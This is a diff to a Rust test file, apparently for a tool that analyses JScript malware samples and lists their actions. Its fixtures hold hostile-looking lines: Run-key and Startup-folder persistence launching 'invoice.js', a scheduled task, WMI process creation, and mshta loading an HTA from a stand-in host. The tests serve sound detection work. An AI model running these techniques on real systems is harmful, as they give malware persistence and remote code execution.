@@ -499,7 +499,7 @@ fn what_starts_it_again() {
         &[
             r"set HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x = wscript C:\Users\k.tanaka\Downloads\invoice.js",
             r"set C:\Users\k.tanaka\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk = wscript.exe x.js",
-            "run schtasks /create /tn x /tr x.js",
+            "set task x = x.js",
         ],
     );
 }
@@ -515,7 +515,7 @@ fn management_and_enumerators() {
         w.Get("Win32_Process").Create("cmd /c one");
         new ActiveXObject("Shell.Application").ShellExecute("mshta.exe", "http://s.example/h.hta", "", "open", 0);
         "#,
-        &["run cmd /c one", "run mshta.exe http://s.example/h.hta"],
+        &["run cmd /c one", "run mshta.exe http://s.example/h.hta", "fetch http://s.example/h.hta"],
     );
 }
 
